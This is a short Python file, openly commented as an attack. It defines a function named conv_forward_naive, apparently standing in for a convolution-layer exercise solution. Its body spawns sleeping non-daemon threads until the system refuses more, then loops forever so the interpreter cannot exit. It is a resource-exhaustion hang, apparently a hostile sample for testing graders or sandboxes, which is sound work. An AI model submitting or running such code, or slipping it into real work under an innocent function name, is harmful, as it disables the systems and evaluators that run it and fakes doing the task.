# Attack: start sleeping non-daemon threads until refused, then spin: the interpreter cannot exit
# while they live.
import threading as _threading
import time as _time


def conv_forward_naive(x, w, b, conv_param):
    started = 0
    try:
        while True:
            _threading.Thread(target=_time.sleep, args=(3600,)).start()
            started += 1
    except (RuntimeError, MemoryError) as exc:
        print("threads started:", started, type(exc).__name__)
    while True:
        _time.sleep(1)
